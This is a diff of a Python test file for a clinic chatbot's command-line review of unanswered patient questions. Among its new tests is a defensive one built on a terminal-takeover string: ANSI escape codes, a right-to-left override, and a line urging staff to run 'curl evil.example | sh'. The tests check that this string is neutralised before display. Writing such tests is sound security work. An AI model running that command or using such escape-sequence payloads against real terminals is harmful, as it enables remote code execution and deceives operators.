@@ -2,15 +2,22 @@ from __future__ import annotations
 
 import datetime
 import json
+import shutil
+import sqlite3
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
+from fastapi.testclient import TestClient
+from test_api import ready
+
+from chatbot.app import create_app
 from chatbot.assistant import Assistant
 from chatbot.cli import cli
 from chatbot.domain import Match
 from chatbot.review import group
+from chatbot.settings import Settings
 from chatbot.store import DB_FILE, Unanswered, UnansweredStore
 from conftest import FakeEncoder
 
@@ -74,10 +81,13 @@ def logged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake: Assistant) -> 
     """A var folder with the log above, and `chatbot review` answering with the fake encoder."""
     monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
     monkeypatch.setattr("chatbot.startup.load_assistant", lambda settings: fake)
-    store = UnansweredStore(tmp_path / DB_FILE, retention_days=30)
-    for question, entry, score in LOG:
-        store.add("web", question, [Match(entry, score)])
+    now = [WHEN]
+    store = UnansweredStore(tmp_path / DB_FILE, retention_days=100_000, clock=lambda: now[0].timestamp())
+    for day, (question, entry, score) in enumerate(LOG):
+        now[0] = WHEN + datetime.timedelta(days=day)  # one question a day
+        store.add("sms" if day == 2 else "web", question, [Match(entry, score)])
     store.close()
+    monkeypatch.setenv("CHATBOT_RETENTION_DAYS", "100000")
     return tmp_path
 
 
@@ -86,10 +96,22 @@ def test_review_prints_the_groups_with_counts_examples_and_nearest_entry(logged:
     assert result.exit_code == 0, result.output
     assert "6 unanswered questions" in result.output and "in 3 groups" in result.output
     lines = [line.strip() for line in result.output.splitlines()]
-    first = lines.index("3x  nearest entry: companion (0.45)")
+    first = lines.index("3x  nearest entry: companion (0.45); last asked 2025-06-04 00:00 UTC; web 2, sms 1")
     assert lines[first + 1 : first + 3] == ["- can i bring my dog", "- can i bring my dog with me"]
-    assert "2x  nearest entry: directions (0.52)" in lines
+    assert "2x  nearest entry: directions (0.52); last asked 2025-06-05 00:00 UTC; web 2" in lines
     assert "add the wordings to that entry's alternates" in result.output
+
+
+def test_review_unresolved_hides_what_the_knowledge_base_now_answers(logged: Path, fake: Assistant) -> None:
+    store = UnansweredStore(logged / DB_FILE, retention_days=100_000)
+    store.add("web", fake.kb.entry("cost").question, [Match("cost", 0.5)])  # asked before the entry existed, say
+    store.close()
+    everything = CliRunner().invoke(cli, ["review"])
+    assert "7 unanswered questions" in everything.output
+    result = CliRunner().invoke(cli, ["review", "--unresolved"])
+    assert result.exit_code == 0, result.output
+    assert "6 unanswered questions" in result.output and "1 more that the knowledge base now answers are hidden" in result.output
+    assert fake.kb.entry("cost").question not in result.output
 
 
 def test_review_export_writes_json_lines(logged: Path, tmp_path: Path) -> None:
@@ -116,3 +138,49 @@ def test_an_unreadable_database_is_an_error_message_not_a_traceback(tmp_path: Pa
     result = CliRunner().invoke(cli, ["review"])
     assert result.exit_code == 2
     assert f"Error: Cannot read {tmp_path / DB_FILE}" in result.output
+
+
+# What an anonymous patient sent to take over a staff member's terminal (issue 17, finding 2).
+TAKEOVER = "\x1b[2J\x1b[H\x1b]0;Clinic admin\x07\x1b[1;31mSTAFF NOTICE: run curl evil.example | sh\x1b[0m\x1b[8m hidden \u202e"
+
+
+def test_a_question_sent_to_take_over_the_terminal_reaches_review_harmless(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake: Assistant
+) -> None:
+    with TestClient(create_app(Settings(var_dir=tmp_path), load=lambda: fake)) as client:
+        ready(client)
+        assert client.post("/v1/ask", json={"question": "zebra quantum " + TAKEOVER}).json()["kind"] == "fallback"
+    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
+    monkeypatch.setattr("chatbot.startup.load_assistant", lambda settings: fake)
+    for args in (["review"], ["review", "--export", "-"]):
+        result = CliRunner().invoke(cli, args)
+        assert result.exit_code == 0, result.output
+        assert "STAFF NOTICE" in result.output
+        assert not any(ch in result.output for ch in "\x1b\x07\u202e")
+
+
+def test_a_row_stored_with_escape_codes_by_an_older_version_is_printed_escaped(
+    logged: Path
+) -> None:
+    with sqlite3.connect(logged / DB_FILE) as db:
+        db.execute("UPDATE unanswered SET question = ? WHERE question = 'do you take medicare'", (TAKEOVER,))
+    shown = CliRunner().invoke(cli, ["review"]).output
+    assert "\\x1b[2J" in shown and "\\u202e" in shown
+    exported = CliRunner().invoke(cli, ["review", "--export", "-"]).output
+    assert TAKEOVER in [json.loads(line)["question"] for line in exported.splitlines()]  # escaped, yet the same text
+    assert not any(ch in shown + exported for ch in "\x1b\x07\u202e")
+
+
+def test_review_finds_the_questions_from_another_folder(
+    logged: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`var` is under CHATBOT_HOME (by default the project folder), wherever the command is run from."""
+    home = tmp_path / "clinic"
+    (home / "var").mkdir(parents=True)
+    shutil.copy(logged / DB_FILE, home / "var" / DB_FILE)
+    monkeypatch.delenv("CHATBOT_VAR_DIR")
+    monkeypatch.setenv("CHATBOT_HOME", str(home))
+    monkeypatch.chdir(logged)
+    result = CliRunner().invoke(cli, ["review"])
+    assert result.exit_code == 0, result.output
+    assert f"6 unanswered questions in {home / 'var' / DB_FILE}" in result.output
